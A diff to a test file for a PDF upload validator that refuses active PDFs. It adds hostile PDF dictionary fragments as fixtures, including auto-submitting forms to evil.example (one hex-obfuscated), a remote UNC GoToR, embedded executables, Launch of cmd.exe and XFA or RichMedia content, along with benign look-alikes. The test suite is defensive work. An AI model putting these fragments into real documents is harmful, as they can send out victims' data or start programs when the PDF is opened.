@@ -172,6 +172,21 @@ describe("a PDF is refused, with advice,", () => {
     ["with a program that it starts", "/OpenAction << /S /Launch /F (cmd.exe) >>"],
     ["with files in it", "/Names << /EmbeddedFiles << /Names [(x.exe) 9 0 R] >> >>"],
     ["with a file in it", "/X << /Type /EmbeddedFile /Length 0 >>"],
+    ["with an attachment", "/Annots [<< /Subtype /FileAttachment /FS << /F (x.exe) /EF << /F 9 0 R >> >> >>]"],
+    [
+      "that opens a file from elsewhere",
+      "/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>",
+    ],
+    ["that opens a web page by itself", "/OpenAction << /Type /Action /S /URI /URI (https://evil.example/) >>"],
+    ["that opens a file in another", "/OpenAction << /S /GoToE /T << /R /C >> >>"],
+    ["that sends its form", "/AA << /WC << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >> >>"],
+    ["that sends its form, in letters and numbers", "/A<</S/Submit#46orm/F(https://evil.example/)>>"],
+    ["that takes data in", "/OpenAction << /S /ImportData /F (data.fdf) >>"],
+    ["with a form of XFA", "/AcroForm << /Fields [] /XFA [(template) 5 0 R (datasets) 6 0 R] >>"],
+    ["with a form of XFA in one piece", "/AcroForm << /Fields [] /XFA 5 0 R >>"],
+    ["with rich media", "/Annots [<< /Type /Annot /Subtype /RichMedia /RichMediaContent 7 0 R >>]"],
+    ["with a model in space", "/Annots [<< /Type /Annot /Subtype /3D /3DD 7 0 R >>]"],
+    ["that plays something", "/OpenAction << /S /Rendition /OP 0 >>"],
   ])("%s", async (_, more) => {
     expect(await judge(withCatalogue(more), "passport.pdf")).toEqual({ refusal: activePdf });
   });
@@ -181,6 +196,11 @@ test.each([
   ["opens at a place", "/OpenAction [3 0 R /XYZ null null 0]"],
   ["opens at a place, by an action", "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"],
   ["has links", "/A << /S /URI /URI (https://example.com/JavaScript) >>"],
+  ["has a form", "/AcroForm << /Fields [<< /FT /Tx /T (Family name) /V (Khan) >>] /NeedAppearances true >>"],
+  ["clears its form", "/A << /S /ResetForm /Fields [] >>"],
+  ["links to pages and mail", "/A << /S /URI /URI (mailto:me@example.com?subject=/S /Form) >>"],
+  ["has fonts and parts with short names", "/Font << /EF 5 0 R /XF 6 0 R >> /K << /S /Sect /P 7 0 R >>"],
+  ["speaks of forms and files", "/Title (How to use XFA [2] and /EF, SubmitForm, GoToR) /Keywords (/RichMedia, /XFA)"],
   ["speaks of scripts", "/Title (CV: HTML/CSS/JavaScript, Launch /JavaScript) /Keywords (JS/JavaScript 5 years)"],
   ["is PDF/A by its notes", "/Metadata 4 0 R /Lang (en-GB) /MarkInfo << /Marked true >>"],
 ])("an ordinary PDF that %s is accepted", async (_, more) => {
@@ -188,7 +208,7 @@ test.each([
 });
 
 test("a large PDF of blanks and names is parsed in no time", async () => {
-  for (const piece of ["/S ", "/S", "/EmbeddedFiles 1", "/JavaScript 11111111111", " "]) {
+  for (const piece of ["/S ", "/S", "/EmbeddedFiles 1", "/OpenAction << ", "/JavaScript 11111111111", " "]) {
     const begin = performance.now();
     await judge(withCatalogue(piece.repeat(5_000_000 / piece.length)), "passport.pdf");
     expect(performance.now() - begin).toBeLessThan(3000);
